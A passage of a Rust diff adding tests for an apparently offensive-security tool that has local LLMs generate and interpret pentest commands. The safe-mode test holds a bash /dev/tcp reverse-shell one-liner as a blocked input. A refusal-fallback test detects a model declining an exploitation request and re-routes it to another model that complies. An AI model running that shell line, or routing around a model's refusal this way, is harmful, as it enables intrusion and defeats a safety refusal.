+        let config = OllamaConfig { api_url: server.url(), ..OllamaConfig::default() };
+        let client = OllamaClient::with_config(config).unwrap();
+        assert_eq!(client.pull_status("llama3").await.unwrap(), PullState::Present);
         
-        #[derive(Deserialize)]
-        struct ModelData {
-            name: String,
-        }
+        let mut completed = Vec::new();
+        client.pull_with_progress("gemma3:12b", |p| completed.extend(p.completed)).await.unwrap();
+        assert_eq!(completed, vec![40, 100]);
+        pull.assert_async().await;
+    }
+    
+    #[test]
+    fn test_partial_blobs() {
+        let dir = std::env::temp_dir().join(format!("commandstrike-blobs-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(dir.join("sha256-aaaa-partial"), [0u8; 10]).unwrap();
+        std::fs::write(dir.join("sha256-aaaa-partial-0"), [0u8; 3]).unwrap();
+        std::fs::write(dir.join("sha256-bbbb"), [0u8; 5]).unwrap();
         
-        let models_data: ModelResponse = response.json().await
-            .context("Failed to parse Ollama API response")?;
+        assert_eq!(partial_blobs(&dir), (1, 10));
+        assert_eq!(partial_blobs(&dir.join("missing")), (0, 0));
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+    
+    #[test]
+    fn test_match_installed_model() {
+        let installed = vec!["llama3:8b".to_string(), "deepseek-coder:6.7b".to_string()];
+        assert_eq!(match_installed_model("`deepseek-coder:6.7b`", &installed), Some("deepseek-coder:6.7b".to_string()));
+        assert_eq!(match_installed_model("I would use llama3:8b for this.", &installed), Some("llama3:8b".to_string()));
+        assert_eq!(match_installed_model("mixtral:8x7b", &installed), None);
+    }
+    
+    #[tokio::test]
+    async fn test_pick_installed_fallback() {
+        let mut server = mockito::Server::new_async().await;
+        let _tags = server.mock("GET", "/api/tags")
+            .with_body(r#"{"models":[{"name":"tinyllama:latest"},{"name":"llama3:8b"},{"name":"phi3:14b"}]}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig { api_url: server.url(), ..OllamaConfig::default() };
+        let client = OllamaClient::with_config(config).unwrap();
         
-        Ok(models_data.models.into_iter().map(|m| m.name).collect())
+        // llama3:8b comes before phi3:14b in the recommended list
+        assert_eq!(client.pick_installed_fallback().await, Some("llama3:8b".to_string()));
     }
-}
-
-/// Helper function to test if Ollama is running
-pub async fn check_ollama_running() -> bool {
-    match reqwest::Client::new()
-        .get("http://localhost:11434/api/tags")
-        .timeout(Duration::from_secs(2))
-        .send()
-        .await
-    {
-        Ok(response) => response.status().is_success(),
-        Err(_) => false,
+    
+    #[test]
+    fn test_config_builder_validates() {
+        let config = OllamaConfig::builder()
+            .api_url("http://gpu-box:11434")
+            .model("llama3:8b")
+            .max_tokens(512)
+            .build()
+            .unwrap();
+        assert_eq!(config.api_url, "http://gpu-box:11434");
+        assert_eq!(config.max_tokens, 512);
+        assert!(!config.adaptive_temperature);
+        assert!(!config.auto_pull);
+        assert!(OllamaConfig::builder().auto_pull(true).build().unwrap().auto_pull);
+        
+        assert!(OllamaConfig::builder().temperature(1.5).build().is_err());
+        assert!(OllamaConfig::builder().model("").build().is_err());
+        assert!(OllamaConfig::builder().api_url("localhost:11434").build().is_err());
     }
-}
-
-/// Checks if the requested model is available locally, and if not, suggests pulling it
-pub async fn validate_model(model: &str) -> Result<bool> {
-    let client = reqwest::Client::new();
-    let url = "http://localhost:11434/api/tags";
     
-    let response = match client.get(url).send().await {
-        Ok(resp) => resp,
-        Err(_) => return Ok(false),
-    };
+    #[test]
+    fn test_few_shot_examples_in_prompt() {
+        let config = OllamaConfig::builder()
+            .example("list open ports", "ss -tuln")
+            .example("show current user", "whoami")
+            .max_few_shot_examples(1)
+            .build()
+            .unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let prompt = client.build_generate_prompt("scan 10.0.0.1", &[]);
+        assert!(prompt.contains("Request: list open ports\nCommand: ss -tuln"));
+        assert!(!prompt.contains("whoami"));
+        assert!(prompt.find("ss -tuln").unwrap() < prompt.find("scan 10.0.0.1").unwrap());
+    }
     
-    if !response.status().is_success() {
-        return Ok(false);
+    #[test]
+    fn test_disabled_history_is_left_out_of_prompt() {
+        let history = vec![HistoryItem {
+            user_input: "scan".to_string(),
+            command: "nmap 10.0.0.1".to_string(),
+            result: "22/tcp open".to_string(),
+            ..Default::default()
+        }];
+        
+        let client = OllamaClient::new().unwrap();
+        assert!(client.build_generate_prompt("next", &history).contains("nmap 10.0.0.1"));
+        
+        let config = OllamaConfig::builder().use_history(false).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        let prompt = client.build_generate_prompt("next", &history);
+        assert!(!prompt.contains("nmap 10.0.0.1"));
+        assert!(prompt.contains("No previous interaction history."));
     }
     
-    #[derive(Deserialize)]
-    struct ModelsResponse {
-        models: Vec<ModelInfo>,
+    #[test]
+    fn test_history_context_size() {
+        let history: Vec<HistoryItem> = (1..=5)
+            .map(|i| HistoryItem { command: format!("echo step{}", i), ..Default::default() })
+            .collect();
+        
+        let prompt = OllamaClient::new().unwrap().build_generate_prompt("next", &history);
+        assert!(!prompt.contains("echo step2"));
+        assert!(prompt.contains("echo step3"));
+        
+        let config = OllamaConfig::builder().history_context_size(5).build().unwrap();
+        let prompt = OllamaClient::with_config(config).unwrap().build_generate_prompt("next", &history);
+        assert!(prompt.contains("echo step1"));
+        
+        let config = OllamaConfig::builder().history_context_size(1000).build().unwrap();
+        assert_eq!(config.history_context_size, MAX_HISTORY_CONTEXT_SIZE);
     }
     
-    #[derive(Deserialize)]
-    struct ModelInfo {
-        name: String,
+    #[test]
+    fn test_history_is_redacted() {
+        let history = vec![HistoryItem {
+            user_input: "read the env file".to_string(),
+            command: "cat .env".to_string(),
+            result: "API_KEY=sk-live-1234567890\nDEBUG=false".to_string(),
+            ..Default::default()
+        }];
+        
+        let prompt = OllamaClient::new().unwrap().build_generate_prompt("next", &history);
+        assert!(prompt.contains("API_KEY=[REDACTED]\nDEBUG=false"));
+        assert!(!prompt.contains("sk-live"));
+        
+        let config = OllamaConfig::builder().redact_history(false).build().unwrap();
+        let prompt = OllamaClient::with_config(config).unwrap().build_generate_prompt("next", &history);
+        assert!(prompt.contains("API_KEY=sk-live-1234567890"));
     }
     
-    let models_data: ModelsResponse = match response.json().await {
-        Ok(data) => data,
-        Err(_) => return Ok(false),
-    };
+    #[test]
+    fn test_prompt_stats_breakdown() {
+        let history = vec![HistoryItem {
+            user_input: "scan".to_string(),
+            command: "nmap -p- 10.0.0.1".to_string(),
+            result: "x".repeat(20_000),
+            ..Default::default()
+        }];
+        let client = OllamaClient::new().unwrap();
+        
+        let stats = client.prompt_stats("enumerate smb shares", &history);
+        let names: Vec<&str> = stats.iter().map(|s| s.name).collect();
+        assert_eq!(names, ["System prompt", "Few-shot examples", "History context", "User input"]);
+        assert_eq!(stats[1].chars, 0);
+        
+        // The huge result dominates, and the sections add up to the real prompt
+        let largest = stats.iter().max_by_key(|s| s.tokens).unwrap();
+        assert_eq!(largest.name, "History context");
+        let prompt = client.build_generate_prompt("enumerate smb shares", &history);
+        assert_eq!(stats[1..].iter().map(|s| s.chars).sum::<usize>(), prompt.chars().count());
+        
+        assert_eq!(estimate_tokens("abcdefgh"), 2);
+        assert_eq!(estimate_tokens("abcdefghi"), 3);
+    }
     
-    Ok(models_data.models.iter().any(|m| m.name == model))
-}
-
-/// Pull the specified model from Ollama if not already available
-pub async fn pull_model(model: &str) -> Result<bool> {
-    if validate_model(model).await? {
-        return Ok(true); // Model already available
+    #[test]
+    fn test_truncate_middle_keeps_head_and_tail() {
+        let output = format!("Starting scan{}ERROR: connection refused", "x".repeat(1000));
+        let truncated = truncate_middle(&output, 60);
+        
+        assert!(truncated.starts_with("Starting scan"));
+        assert!(truncated.ends_with("ERROR: connection refused"));
+        assert!(truncated.contains("[output truncated, showing first 30 and last 30 chars]"));
+        
+        // Short output and a zero limit are left alone
+        assert_eq!(truncate_middle("short", 40), "short");
+        assert_eq!(truncate_middle(&output, 0), output);
     }
     
-    println!("Model '{}' not found locally. Attempting to pull...", model);
+    #[test]
+    fn test_interpret_prompt_includes_findings_before_truncation() {
+        let output = format!("{}\n/backup               (Status: 200) [Size: 42]", "x".repeat(1000));
+        let history = vec![HistoryItem {
+            user_input: "find hidden directories".to_string(),
+            command: "gobuster dir -u http://10.0.0.1 -w common.txt".to_string(),
+            result: output.clone(),
+            ..Default::default()
+        }];
+        
+        let prompt = build_interpret_prompt(&output, 20, &history, InterpretFocus::General);
+        assert!(prompt.contains("- [gobuster] /backup: status 200"));
+        assert!(prompt.contains("[output truncated"));
+    }
+    
+    #[tokio::test]
+    async fn test_reinterpret_appends() {
+        let mut server = mockito::Server::new_async().await;
+        let interpret = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"model":"qwen2.5:32b"}"#.to_string()))
+            .with_body(r#"{"model":"qwen2.5:32b","response":"Port 22 runs an outdated OpenSSH","done":true}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).model("qwen2.5:32b").build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let mut item = HistoryItem {
+            command: "nmap -sV 10.0.0.1".to_string(),
+            result: "22/tcp open ssh OpenSSH 7.2p2".to_string(),
+            interpretations: vec![Interpretation { model: "llama3:8b".to_string(), text: "SSH is open".to_string() }],
+            ..Default::default()
+        };
+        let added = client.reinterpret(&mut item).await.unwrap();
+        assert_eq!(added.model, "qwen2.5:32b");
+        assert_eq!(item.interpretations.len(), 2);
+        assert_eq!(item.interpretations[1].text, "Port 22 runs an outdated OpenSSH");
+        interpret.assert_async().await;
+        
+        // Nothing is sent for an item without output
+        let mut empty = HistoryItem { command: "true".to_string(), ..Default::default() };
+        assert!(client.reinterpret(&mut empty).await.is_err());
+    }
+    
+    #[tokio::test]
+    async fn test_compare_interpretations() {
+        let mut server = mockito::Server::new_async().await;
+        let _good = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"model":"qwen2.5:32b"}"#.to_string()))
+            .with_body(r#"{"model":"qwen2.5:32b","response":"Anonymous FTP login is allowed","done":true}"#)
+            .create_async()
+            .await;
+        let _missing = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"model":"missing"}"#.to_string()))
+            .with_status(404)
+            .with_body(r#"{"error":"model 'missing' not found"}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).model("llama3:8b").build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let models = ["missing".to_string(), "qwen2.5:32b".to_string()];
+        let results = client.compare_interpretations("21/tcp open ftp vsftpd 3.0.3", &[], &models).await;
+        assert_eq!(results[0].0, "missing");
+        assert!(results[0].1.as_ref().unwrap_err().to_string().contains("not found"));
+        assert_eq!(results[1].1.as_ref().unwrap(), "Anonymous FTP login is allowed");
+        assert_eq!(client.model(), "llama3:8b");
+    }
+    
+    #[test]
+    fn test_interpret_focus() {
+        assert_eq!(InterpretFocus::parse("PrivEsc"), Some(InterpretFocus::PrivEsc));
+        assert_eq!(InterpretFocus::parse("creds"), Some(InterpretFocus::Credentials));
+        assert_eq!(InterpretFocus::parse("everything"), None);
+        assert!(InterpretFocus::ALL.iter().all(|focus| InterpretFocus::parse(&focus.to_string()) == Some(*focus)));
+        
+        assert_eq!(interpret_system_prompt(INTERPRET_SYSTEM_PROMPT, InterpretFocus::General), INTERPRET_SYSTEM_PROMPT);
+        assert!(interpret_system_prompt(INTERPRET_SYSTEM_PROMPT, InterpretFocus::PrivEsc).contains("focus ONLY on privilege escalation"));
+        
+        let prompt = build_interpret_prompt("uid=33(www-data)", 0, &[], InterpretFocus::PrivEsc);
+        assert!(prompt.ends_with("looking only for privesc findings."));
+    }
     
-    let client = reqwest::Client::new();
-    let url = "http://localhost:11434/api/pull";
+    #[tokio::test]
+    async fn test_system_prompt_overrides() {
+        let default_system = OllamaClient::new().unwrap().generate_prompt_parts("list users", &[]).system;
+        assert!(default_system.starts_with(COMMAND_SYSTEM_PROMPT));
+        
+        let config = OllamaConfig::builder().safe_mode(true).command_system_prompt("Reply with one bash command.").build().unwrap();
+        let mut client = OllamaClient::with_config(config).unwrap();
+        let system = client.generate_prompt_parts("list users", &[]).system;
+        assert!(system.starts_with("Reply with one bash command."));
+        assert!(!system.contains("You are CommandStrike"));
+        assert!(system.contains(SAFE_MODE_PROMPT));
+        
+        client.set_command_system_prompt("Reply with one zsh command.");
+        assert!(client.generate_prompt_parts("list users", &[]).system.starts_with("Reply with one zsh command."));
+        
+        let mut server = mockito::Server::new_async().await;
+        let interpret = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"system":"List open ports only."}"#.to_string()))
+            .with_body(r#"{"model":"test","response":"22/tcp","done":true}"#)
+            .create_async()
+            .await;
+        let config = OllamaConfig::builder().api_url(&server.url()).use_chat_api("gemma3", false).interpret_system_prompt("List open ports only.").build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        assert_eq!(client.interpret_result("22/tcp open ssh", &[]).await.unwrap(), "22/tcp");
+        interpret.assert_async().await;
+    }
     
-    let payload = serde_json::json!({
-        "name": model
-    });
+    #[test]
+    fn test_safe_mode_blocks_destructive_commands() {
+        assert!(check_safe_mode("nmap -sV 10.0.0.1").is_ok());
+        
+        let err = check_safe_mode("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").unwrap_err();
+        assert!(err.to_string().contains("reverse shell"));
+        
+        let err = check_safe_mode("REFUSED: reverse shells are not allowed in safe mode").unwrap_err();
+        assert!(err.to_string().contains("reverse shells are not allowed"));
+    }
     
-    let response = client.post(url)
-        .json(&payload)
-        .send()
-        .await
-        .context("Failed to connect to Ollama API for model pull")?;
+    #[test]
+    fn test_request_ids_are_short_and_distinct() {
+        let first = new_request_id();
+        let second = new_request_id();
+        assert_eq!(first.len(), 8);
+        assert_ne!(first, second);
+    }
     
-    if !response.status().is_success() {
-        let error_text = response.text().await.unwrap_or_else(|_| "Unknown error".to_string());
-        return Err(anyhow::anyhow!("Failed to pull model: {}", error_text));
+    #[test]
+    fn test_truncated_response() {
+        let response: OllamaResponse = serde_json::from_str(
+            r#"{"model":"gemma3:12b","response":"nmap -sV -p- --script","done":true,"done_reason":"length"}"#
+        ).unwrap();
+        assert_eq!(response.done_reason(), Some(DoneReason::Length));
+        assert_eq!(response.done_reason(), Some(DoneReason::Length));
+        
+        let response: OllamaResponse = serde_json::from_str(
+            r#"{"model":"gemma3:12b","response":"nmap -sV 10.0.0.1","done":true,"done_reason":"stop"}"#
+        ).unwrap();
+        assert_ne!(response.done_reason(), Some(DoneReason::Length));
+        assert_eq!(response.done_reason(), Some(DoneReason::Stop));
+        assert_eq!(DoneReason::parse("load"), DoneReason::Load);
+        assert_eq!(DoneReason::parse("unload"), DoneReason::Other("unload".to_string()));
     }
     
-    // Wait for pull to complete and check if model is now available
-    tokio::time::sleep(Duration::from_secs(2)).await;
-    Ok(validate_model(model).await?)
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
+    #[test]
+    fn test_model_digest_pinning() {
+        assert_eq!(split_model_digest("gemma3:12b"), ("gemma3:12b", None));
+        assert_eq!(split_model_digest("gemma3:12b@sha256:a2af6cc3"), ("gemma3:12b", Some("a2af6cc3")));
+        
+        let tags: TagsResponse = serde_json::from_str(r#"{"models":[{"name":"gemma3:12b","model":"gemma3:12b","size":8149190253,"digest":"a2af6cc3eb7fa8be8504abaf9b04e88f17a119ec3f04a3addf55f92841195f5a"}]}"#).unwrap();
+        let digest = tags.models[0].digest.as_deref().unwrap();
+        assert!(digest_matches(digest, "a2af6cc3"));
+        assert!(!digest_matches(digest, "deadbeef"));
+    }
     
     #[tokio::test]
-    async fn test_clean_command_response() {
-        let client = OllamaClient::new().unwrap();
+    async fn test_show_model_compares_pinned_digest() {
+        let mut server = mockito::Server::new_async().await;
+        let _tags = server.mock("GET", "/api/tags")
+            .with_body(r#"{"models":[{"name":"gemma3:12b","digest":"a2af6cc3eb7fa8be8504abaf9b04e88f17a119ec3f04a3addf55f92841195f5a"}]}"#)
+            .create_async()
+            .await;
+        let client = OllamaClient::with_config(OllamaConfig { api_url: server.url(), ..OllamaConfig::default() }).unwrap();
         
-        // Test code block cleaning
-        assert_eq!(client.clean_command_response("```bash\nls -la\n```"), "ls -la");
+        let installed = client.show_model("gemma3:12b@sha256:deadbeef").await.unwrap().unwrap();
+        assert_eq!(installed.name, "gemma3:12b");
+        assert!(installed.differs_from_pin("gemma3:12b@sha256:deadbeef"));
+        assert!(!installed.differs_from_pin("gemma3:12b@sha256:a2af6cc3"));
+        assert!(!installed.differs_from_pin("gemma3:12b"));
         
-        // Test inline code cleaning
-        assert_eq!(client.clean_command_response("`ls -la`"), "ls -la");
+        // A pin that doesn't match still leaves the model usable
+        assert!(client.validate_model("gemma3:12b@sha256:deadbeef").await.unwrap());
+        assert_eq!(client.show_model("llama3:8b").await.unwrap(), None);
+    }
+    
+    #[test]
+    fn test_parse_generate_body_shapes() {
+        let ollama = parse_generate_body(r#"{"model":"llama3:8b","response":"id","done":true,"done_reason":"stop","eval_count":2}"#).unwrap();
+        assert_eq!(ollama.response, "id");
+        assert_eq!(ollama.eval_count, Some(2));
         
-        // Test language prefix removal
-        assert_eq!(client.clean_command_response("sh echo hello"), "echo hello");
-        assert_eq!(client.clean_command_response("bash echo hello"), "echo hello");
+        let chat = parse_generate_body(r#"{"id":"chatcmpl-1","object":"chat.completion","model":"qwen2.5-7b","choices":[{"index":0,"message":{"role":"assistant","content":"nmap -sV 10.0.0.1"},"finish_reason":"length"}],"usage":{"prompt_tokens":40,"completion_tokens":9,"total_tokens":49}}"#).unwrap();
+        assert_eq!(chat.response, "nmap -sV 10.0.0.1");
+        assert_eq!(chat.done_reason(), Some(DoneReason::Length));
+        assert_eq!(chat.usage(), Some(TokenUsage { input_tokens: 40, output_tokens: 9 }));
+        
+        let completion = parse_generate_body(r#"{"choices":[{"text":"whoami","finish_reason":"stop"}]}"#).unwrap();
+        assert_eq!(completion.response, "whoami");
+        
+        let events = concat!(
+            "data: {\"choices\":[{\"delta\":{\"content\":\"ls\"}}]}\n\n",
+            "data: {\"choices\":[{\"delta\":{\"content\":\" -la\"},\"finish_reason\":\"stop\"}]}\n\n",
+            "data: [DONE]\n",
+        );
+        let streamed = parse_generate_body(events).unwrap();
+        assert_eq!(streamed.response, "ls -la");
+        assert_eq!(streamed.done_reason(), Some(DoneReason::Stop));
+        
+        let err = parse_generate_body(r#"{"error":{"message":"no model loaded"}}"#).unwrap_err();
+        assert!(err.to_string().contains("no model loaded"));
+    }
+    
+    #[tokio::test]
+    async fn test_openai_compatible_generate() {
+        let mut server = mockito::Server::new_async().await;
+        let _generate = server.mock("POST", "/api/generate")
+            .with_header("content-type", "application/json")
+            .with_body(r#"{"model":"local-model","choices":[{"message":{"content":"```bash\nss -tuln\n```"},"finish_reason":"stop"}]}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).use_chat_api("gemma3", false).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        assert_eq!(client.generate_command("list listening ports", &[]).await.unwrap(), "ss -tuln");
+    }
+    
+    #[tokio::test]
+    async fn test_api_error_body() {
+        let mut server = mockito::Server::new_async().await;
+        let _missing = server.mock("POST", "/api/generate")
+            .with_status(404)
+            .with_body(r#"{"error":"model 'llama9' not found, try pulling it first"}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).model("llama9").build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        let err = client.generate_command("list files", &[]).await.unwrap_err();
+        let api_error = err.downcast_ref::<ApiError>().unwrap();
+        assert_eq!(api_error.status, 404);
+        assert_eq!(api_error.message, "model 'llama9' not found, try pulling it first");
+        
+        let raw = ApiError::from_body(502, "Bad Gateway\n");
+        assert_eq!(raw, ApiError { api: ApiFormat::Ollama, status: 502, message: "Bad Gateway".to_string() });
+        assert_eq!(ApiError::from_body(500, "").message, "Unknown error");
+    }
+    
+    #[tokio::test]
+    async fn test_refusal_fallback() {
+        let mut server = mockito::Server::new_async().await;
+        let _refusal = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex(r#""model":"strict""#.to_string()))
+            .with_body(r#"{"model":"strict","response":"I'm sorry, but I can't help with exploiting systems.","done":true}"#)
+            .create_async()
+            .await;
+        let fallback = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex(r#""model":"coder""#.to_string()))
+            .with_body(r#"{"model":"coder","response":"searchsploit apache 2.4","done":true}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).model("strict").refusal_fallback_model("coder").build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        let generated = client.generate_command_detailed("find exploits for apache 2.4", &[]).await.unwrap();
+        fallback.assert_async().await;
+        assert_eq!(generated.command, "searchsploit apache 2.4");
+        assert_eq!(generated.params.model, "coder");
+        
+        // A normal answer is kept without asking the fallback
+        let _answer = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex(r#""model":"compliant""#.to_string()))
+            .with_body(r#"{"model":"compliant","response":"nmap -sV 10.0.0.1","done":true}"#)
+            .create_async()
+            .await;
+        let mut client = client;
+        client.set_model("compliant");
+        let generated = client.generate_command_detailed("scan 10.0.0.1", &[]).await.unwrap();
+        assert_eq!(generated.params.model, "compliant");
+        fallback.expect(1).assert_async().await;
+        
+        assert!(looks_like_refusal("As an AI, I cannot assist with hacking."));
+        assert!(!looks_like_refusal("grep -i \"sorry\" /var/log/auth.log"));
+    }
+    
+    #[tokio::test]
+    async fn test_follow_up_includes_earlier_exchanges() {
+        let mut server = mockito::Server::new_async().await;
+        let answer = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::AllOf(vec![
+                mockito::Matcher::Regex("Your interpretation of it was:\\\\nAnonymous FTP login is allowed".to_string()),
+                mockito::Matcher::Regex("The analyst asked: why does that matter\\?\\\\nYou answered:\\\\nAnyone can read files".to_string()),
+                mockito::Matcher::Regex("The analyst now asks: which files first\\?".to_string()),
+            ]))
+            .with_body("{\"model\":\"test\",\"response\":\"Start with backup.zip\",\"done\":true}\n")
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        let item = HistoryItem {
+            user_input: "check ftp on 10.0.0.5".to_string(),
+            command: "nmap -sC -p21 10.0.0.5".to_string(),
+            result: "21/tcp open ftp\n| ftp-anon: Anonymous FTP login allowed".to_string(),
+            ..HistoryItem::default()
+        };
+        let mut thread = FollowUpThread::new(&item, "Anonymous FTP login is allowed");
+        thread.exchanges.push(("why does that matter?".to_string(), "Anyone can read files".to_string()));
+        
+        let stream = client.ask_follow_up(&thread, "which files first?").await.unwrap();
+        assert_eq!(stream.into_final().await.unwrap(), "Start with backup.zip");
+        answer.assert_async().await;
+    }
+    
+    #[tokio::test]
+    async fn test_compressed_context_keeps_relevant_history() {
+        let mut server = mockito::Server::new_async().await;
+        // The request and the SMB entry point the same way; the other entries are unrelated
+        let embed = server.mock("POST", "/api/embed")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"model":"nomic-embed-text"}"#.to_string()))
+            .with_body(r#"{"embeddings":[[1.0,0.0],[0.0,1.0],[0.95,0.05],[0.1,0.9],[0.0,1.0]]}"#)
+            .expect(1)
+            .create_async()
+            .await;
+        
+        let item = |input: &str, command: &str, result: String| HistoryItem {
+            user_input: input.to_string(),
+            command: command.to_string(),
+            result,
+            ..HistoryItem::default()
+        };
+        let history = vec![
+            item("check disk usage", "df -h", "Filesystem Size Used\n".repeat(40)),
+            item("list smb shares on 10.0.0.5", "smbclient -L //10.0.0.5 -N", "backups Disk\nIPC$ IPC\n".to_string()),
+            item("show my ip", "ip a", "inet 10.10.14.2/23\n".repeat(40)),
+            item("print the date", "date", "Thu Oct 16 12:00:00 UTC 2026\n".repeat(40)),
+        ];
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        // A generous budget keeps everything without asking for embeddings
+        let full = client.build_compressed_context("connect to the backups share", &history, 10_000).await.unwrap();
+        assert!(full.contains("Request 4: print the date"));
+        
+        let budget = 60;
+        let context = client.build_compressed_context("connect to the backups share", &history, budget).await.unwrap();
+        embed.assert_async().await;
+        assert!(estimate_tokens(&context) <= budget);
+        assert!(context.contains("Request 2: list smb shares on 10.0.0.5\nCommand: smbclient -L //10.0.0.5 -N\nResult: backups Disk"));
+        assert!(context.contains("- show my ip: `ip a` -> inet 10.10.14.2/23"));
+        assert!(!context.contains("df -h"));
+        assert!(!context.contains("Filesystem"));
+    }
+    
+    #[tokio::test]
+    async fn test_chat_api_routing() {
+        let mut server = mockito::Server::new_async().await;
+        let chat = server.mock("POST", "/api/chat")
+            .match_body(mockito::Matcher::PartialJsonString(
+                r#"{"model":"gemma3:12b","messages":[{"role":"system"},{"role":"user"}]}"#.to_string()
+            ))
+            .with_body(r#"{"model":"gemma3:12b","message":{"role":"assistant","content":"ls -la"},"done":true,"done_reason":"stop"}"#)
+            .create_async()
+            .await;
+        let generate = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"model":"deepseek-coder:6.7b"}"#.to_string()))
+            .with_body(r#"{"model":"deepseek-coder:6.7b","response":"ls -la","done":true}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig { 
+            api_url: server.url(), 
+            model: "gemma3:12b".to_string(), 
+            ..OllamaConfig::default() 
+        };
+        assert!(config.uses_chat_api("gemma3:27b"));
+        assert!(!config.uses_chat_api("deepseek-coder:6.7b"));
+        assert!(!config.uses_chat_api("qwen2.5:32b"));
+        
+        let mut client = OllamaClient::with_config(config).unwrap();
+        assert_eq!(client.generate_command("list files", &[]).await.unwrap(), "ls -la");
+        client.set_model("deepseek-coder:6.7b");
+        assert_eq!(client.generate_command("list files", &[]).await.unwrap(), "ls -la");
+        chat.assert_async().await;
+        generate.assert_async().await;
+        
+        let config = OllamaConfig::builder().use_chat_api("gemma3", true).use_chat_api("gemma3:12b", false).build().unwrap();
+        assert!(!config.uses_chat_api("gemma3:12b"));
+        assert!(config.uses_chat_api("gemma3:4b"));
+        assert!(OllamaConfig::default().uses_chat_api("gemma3:4b"));
+        assert!(!OllamaConfig::default().uses_chat_api("deepseek-coder:6.7b"));
+    }
+    
+    #[test]
+    fn test_config_file_round_trip() {
+        let path = std::env::temp_dir().join(format!("commandstrike-config-{}.toml", std::process::id()));
+        let config = OllamaConfig::builder()
+            .model("qwen2.5:32b")
+            .temperature(0.3)
+            .interpret_focus(InterpretFocus::PrivEsc)
+            .target_os(Platform::Windows)
+            .example("list users", "net user")
+            .model_cost("gpt-4o", ModelCost { input_per_1k: 0.01, output_per_1k: 0.03 })
+            .header("Authorization", "Bearer secret")
+            .build()
+            .unwrap();
+        
+        config.to_file(&path, false).unwrap();
+        assert!(!std::fs::read_to_string(&path).unwrap().contains("secret"));
+        let loaded = OllamaConfig::from_file(&path).unwrap();
+        assert_eq!(loaded.model, "qwen2.5:32b");
+        assert_eq!(loaded.temperature, Some(0.3));
+        assert_eq!(loaded.interpret_focus, InterpretFocus::PrivEsc);
+        assert_eq!(loaded.target_os, Platform::Windows);
+        assert_eq!(loaded.few_shot_examples, config.few_shot_examples);
+        assert_eq!(loaded.model_costs, config.model_costs);
+        assert_eq!(loaded.model_aliases, config.model_aliases);
+        assert!(loaded.headers.is_empty());
+        
+        config.to_file(&path, true).unwrap();
+        assert_eq!(OllamaConfig::from_file(&path).unwrap().headers, config.headers);
+        
+        std::fs::write(&path, "model = \"llama3:8b\"\n").unwrap();
+        let partial = OllamaConfig::from_file(&path).unwrap();
+        assert_eq!(partial.model, "llama3:8b");
+        assert_eq!(partial.max_tokens, OllamaConfig::default().max_tokens);
+        
+        // Files written before the timeout was split still set the request timeout
+        std::fs::write(&path, "timeout_secs = 90\n").unwrap();
+        assert_eq!(OllamaConfig::from_file(&path).unwrap().request_timeout_secs, 90);
+        #[allow(deprecated)]
+        let built = OllamaConfig::builder().timeout_secs(45).build().unwrap();
+        assert_eq!(built.request_timeout_secs, 45);
+        
+        let _ = std::fs::remove_file(&path);
+    }
+    
+    #[test]
+    fn test_model_aliases() {
+        let config = OllamaConfig::builder().model_alias("coder", "deepseek-coder:6.7b").model("coder").build().unwrap();
+        assert_eq!(config.resolve_model("coder"), "deepseek-coder:6.7b");
+        assert_eq!(config.resolve_model("llama3"), "llama3:8b");
+        assert_eq!(config.resolve_model("qwen2.5:32b"), "qwen2.5:32b");
+        
+        let mut client = OllamaClient::with_config(config).unwrap();
+        assert_eq!(client.model(), "deepseek-coder:6.7b");
+        client.set_model(" phi3 ");
+        assert_eq!(client.model(), "phi3:14b");
+    }
+    
+    #[test]
+    fn test_find_model_variant() {
+        let installed: Vec<String> = [
+            "llama3:8b",
+            "llama3:8b-instruct-q4_0",
+            "llama3:8b-instruct-q8_0",
+            "llama3:70b-instruct-q4_K_M",
+            "llama3.1:8b-instruct-q4_0",
+            "gemma3:12b-it-fp16",
+        ].iter().map(ToString::to_string).collect();
+        
+        assert_eq!(find_model_variant("llama3:8b", "q8_0", &installed).as_deref(), Some("llama3:8b-instruct-q8_0"));
+        assert_eq!(find_model_variant("llama3:8b", "Q4_0", &installed).as_deref(), Some("llama3:8b-instruct-q4_0"));
+        assert_eq!(find_model_variant("llama3", "q4", &installed).as_deref(), Some("llama3:8b-instruct-q4_0"));
+        assert_eq!(find_model_variant("llama3:70b", "q4", &installed).as_deref(), Some("llama3:70b-instruct-q4_K_M"));
+        
